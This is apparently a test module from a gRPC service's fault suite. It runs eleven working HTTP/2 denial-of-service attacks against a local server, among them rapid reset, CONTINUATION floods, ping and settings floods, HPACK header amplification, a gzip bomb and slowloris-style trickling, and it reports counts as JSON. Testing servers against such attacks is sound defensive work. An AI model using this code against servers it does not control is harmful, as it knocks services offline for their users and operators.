"""Attack a server on this machine through HTTP/2 for some seconds, in one of the ways that `ATTACKS` lists.

    python -m tests.faults.http2_attacks ping-flood 50051 --seconds 8

It prints one line of JSON: what it did and what was done to it, each with its number. When the server closes a
connection, it connects again, up to a rate, as an attacker would. It runs at the lowest priority, so that it leaves the
processor to the server, as an attacker on another machine does.
"""

import json
import select
import time
import zlib
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import closing, contextmanager
from functools import cached_property

import click
import commerce.users.v1.user_service_pb2 as users_pb
from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from tests.faults.scheduling import leave_processor_to_others
from tests.support.http2 import Connection, call_frames, call_headers, grpc_message, static_block

USER_SERVICE = "/commerce.users.v1.UserService"
GET_USER = static_block(call_headers(f"{USER_SERVICE}/GetUser"))
NOBODY = users_pb.GetUserRequest(username="nobody").SerializeToString()
# Connecting costs a server more than most frames, and is not what these attacks are about.
_CONNECTIONS_PER_SECOND = 20
# What floods send each second, unless the server closes the connection. An attacker can send a hundred times as many
# frames; what these attacks show is whether the server goes on taking part.
_FRAMES_PER_SECOND = 20_000
# The largest frame that a server must accept, without its header (RFC 9113, section 4.2).
_FRAME_BYTES = 16_384
# Compressed, it fits into the window of a stream, so that a server can decompress all of it.
_BOMB_BYTES = 48 * 1024 * 1024
_CANCEL = 8


class Attack:
    """What an attack has to work with.

    Args:
        port: where the server listens.
        seconds: how long it goes on, from its first act; before that, an attack makes what it sends.

    Attributes:
        done: how often each thing was done, and happened.
    """

    def __init__(self, port: int, seconds: float) -> None:
        self.port = port
        self.done: Counter[str] = Counter()
        self._seconds = seconds

    @cached_property
    def _until(self) -> float:
        return time.monotonic() + self._seconds

    @property
    def goes_on(self) -> bool:
        """Whether the time is not over."""
        return time.monotonic() < self._until

    def on_connections(self, act: Callable[[Connection], None], settings: dict[int, int] | None = None) -> None:
        """Do something on one new connection after the other, at a limited rate, until the time is over."""
        for _ in self.paced(_CONNECTIONS_PER_SECOND):
            with self.surviving(), closing(self.connect(settings)) as connection:
                try:
                    act(connection)
                finally:
                    self.done.update(
                        {f"{kind} received": connection.received[kind] for kind in ("Headers", "GoAway", "RstStream")}
                    )
                    if connection.goaway:
                        self.done[connection.goaway.additional_data.decode(errors="replace")] += 1

    def connect(self, settings: dict[int, int] | None = None) -> Connection:
        """Connect to the server; raises OSError."""
        self.done["connections"] += 1
        return Connection(self.port, settings)

    @contextmanager
    def surviving(self) -> Iterator[None]:
        """End the block, and count the error, when the server closes the connection."""
        try:
            yield
        except OSError as error:
            self.done[type(error).__name__] += 1

    def paced(self, per_second: float) -> Iterator[None]:
        """Yield until the time is over, at most this often a second."""
        due = time.monotonic()
        while self.goes_on:
            yield
            due = max(due + 1 / per_second, time.monotonic() - 0.1)
            time.sleep(max(due - time.monotonic(), 0))

    def flood(self, what: str, frames: bytes, count: int, *, reads: bool = True) -> None:
        """Send these frames again and again; `count` is how many they are, and `reads` whether answers are read."""
        self.on_connections(lambda connection: self.repeat(connection, what, frames, count, reads=reads))

    def repeat(self, connection: Connection, what: str, frames: bytes, count: int, *, reads: bool = True) -> None:
        """Send these frames again and again on one connection."""
        for _ in self.paced(_FRAMES_PER_SECOND / count):
            connection.send(frames)
            self.done[what] += count
            if reads:
                connection.read()

    def keep(self, connections: list[Connection], *, answers: bool = True) -> None:
        """Keep connections open until the time is over, and answer the server's PING and SETTINGS if `answers`."""
        poll = select.poll()
        opened = {connection.socket.fileno(): connection for connection in connections}
        for number in opened:
            poll.register(number, select.POLLIN)
        while self.goes_on:
            for number, _ in poll.poll(200):
                try:
                    if answers or not opened[number].socket.recv(65536):
                        opened[number].read()
                except OSError as error:
                    self.done[type(error).__name__] += 1
                    poll.unregister(number)
        for connection in connections:
            connection.close()


def many_streams(attack: Attack) -> None:
    """Open 5,000 streams on one connection, more than the server allows; the requests of these calls never come."""

    def act(connection: Connection) -> None:
        for _ in range(100):
            headers = [HeadersFrame(connection.take_stream(), GET_USER, flags=["END_HEADERS"]) for _ in range(50)]
            connection.send(b"".join(each.serialize() for each in headers))
            attack.done["streams"] += len(headers)
            connection.read()
        for _ in attack.paced(10):
            connection.read()

    attack.on_connections(act)


def rapid_reset(attack: Attack) -> None:
    """Make calls and reset each immediately (CVE-2023-44487)."""

    def act(connection: Connection) -> None:
        for _ in attack.paced(_FRAMES_PER_SECOND / 3 / 50):
            streams = [connection.take_stream() for _ in range(50)]
            connection.send(
                b"".join(
                    call_frames(stream, GET_USER, NOBODY) + RstStreamFrame(stream, _CANCEL).serialize()
                    for stream in streams
                )
            )
            attack.done["resets"] += len(streams)
            connection.read()

    attack.on_connections(act)


def slow_readers(attack: Attack) -> None:
    """Ask for pages and exports on ten connections, and never let the server send more than their headers."""
    lists, exports = (static_block(call_headers(f"{USER_SERVICE}/{method}")) for method in ("ListUsers", "ExportUsers"))
    page = users_pb.ListUsersRequest(page_size=1000).SerializeToString()
    connections = []
    for _ in range(10):
        connection = attack.connect({SettingsFrame.INITIAL_WINDOW_SIZE: 0})
        for number in range(20):
            stream = connection.take_stream()
            connection.send(call_frames(stream, lists, page) if number else call_frames(stream, exports, b""))
        attack.done["calls"] += 20
        connections.append(connection)
    attack.keep(connections)


def silent_sockets(attack: Attack) -> None:
    """Connect 900 times, and say nothing after the preface."""
    connections = []
    for _ in attack.paced(900):
        with attack.surviving():
            connections.append(attack.connect())
        if len(connections) == 900:
            break
    attack.keep(connections, answers=False)


def header_flood(attack: Attack) -> None:
    """Make calls with a header field of 4 KiB, repeated 1,000 times by a byte each: 4 MiB of headers in 5 KB."""
    encoder = Encoder()
    block = encoder.encode(call_headers(f"{USER_SERVICE}/GetUser"))
    large = ("x-large", "x" * 4000)
    block += encoder.encode([large], huffman=False)
    block += encoder.encode([large]) * 1000

    def act(connection: Connection) -> None:
        for _ in attack.paced(1000):
            connection.send(call_frames(connection.take_stream(), block, NOBODY))
            attack.done["calls"] += 1
            connection.read()

    attack.on_connections(act)


def continuation_flood(attack: Attack) -> None:
    """Begin a header block and never end it (CVE-2024-27316)."""
    field = static_block([("x-more", "x" * 100)])
    frames = ContinuationFrame(1, field * (_FRAME_BYTES // len(field))).serialize()

    def act(connection: Connection) -> None:
        connection.send(HeadersFrame(connection.take_stream(), GET_USER).serialize())
        attack.repeat(connection, "frames", frames, 1)

    attack.on_connections(act)


def ping_flood(attack: Attack) -> None:
    """Send PING, and do not read the answers (CVE-2019-9512)."""
    attack.flood("pings", PingFrame(0, b"12345678").serialize() * 200, 200, reads=False)


def settings_flood(attack: Attack) -> None:
    """Send SETTINGS, and do not read the answers (CVE-2019-9515)."""
    settings = SettingsFrame(settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65_535}).serialize()
    attack.flood("settings", settings * 200, 200, reads=False)


def empty_frames(attack: Attack) -> None:
    """Send DATA without data, PRIORITY and WINDOW_UPDATE, in a call that never ends (CVE-2019-9518)."""
    frames = [DataFrame(1), PriorityFrame(1), WindowUpdateFrame(0, window_increment=1)]

    def act(connection: Connection) -> None:
        connection.send(HeadersFrame(connection.take_stream(), GET_USER, flags=["END_HEADERS"]).serialize())
        attack.repeat(connection, "frames", b"".join(frame.serialize() for frame in frames) * 70, 210)

    attack.on_connections(act)


def gzip_bombs(attack: Attack) -> None:
    """Make calls whose requests are 48 MiB of zeros, compressed to 48 KiB."""
    compressor = zlib.compressobj(level=9, wbits=31)
    zeros = bytes(1024 * 1024)
    bomb = b"".join(compressor.compress(zeros) for _ in range(_BOMB_BYTES // len(zeros))) + compressor.flush()
    message = grpc_message(bomb, compressed=True)
    block = static_block(call_headers(f"{USER_SERVICE}/GetUser", grpc_encoding="gzip"))

    def act(connection: Connection) -> None:
        for _ in attack.paced(20):
            stream = connection.take_stream()
            connection.send(HeadersFrame(stream, block, flags=["END_HEADERS"]).serialize())
            for start in range(0, len(message), _FRAME_BYTES):
                connection.send(DataFrame(stream, message[start : start + _FRAME_BYTES]).serialize())
            connection.send(DataFrame(stream, flags=["END_STREAM"]).serialize())
            attack.done["bombs"] += 1
            connection.read()

    attack.on_connections(act)


def trickle(attack: Attack) -> None:
    """Send a call on each of 200 connections, one byte at a time and second."""
    frames = call_frames(1, GET_USER, NOBODY)
    connections = [attack.connect() for _ in range(200)]
    for sent, _ in enumerate(attack.paced(1)):
        for connection in connections:
            with attack.surviving():
                connection.read()
                connection.send(frames[sent : sent + 1])
                attack.done["bytes"] += 1
    for connection in connections:
        connection.close()


ATTACKS: dict[str, Callable[[Attack], None]] = {
    attack.__name__.replace("_", "-"): attack
    for attack in (
        many_streams,
        rapid_reset,
        slow_readers,
        silent_sockets,
        header_flood,
        continuation_flood,
        ping_flood,
        settings_flood,
        empty_frames,
        gzip_bombs,
        trickle,
    )
}


@click.command()
@click.argument("name", type=click.Choice(list(ATTACKS)))
@click.argument("port", type=int)
@click.option("--seconds", default=8.0, show_default=True)
def main(name: str, port: int, seconds: float) -> None:
    """Attack a server on this machine."""
    leave_processor_to_others()
    attack = Attack(port, seconds)
    ATTACKS[name](attack)
    click.echo(json.dumps({what: number for what, number in attack.done.items() if number}))


if __name__ == "__main__":
    main()
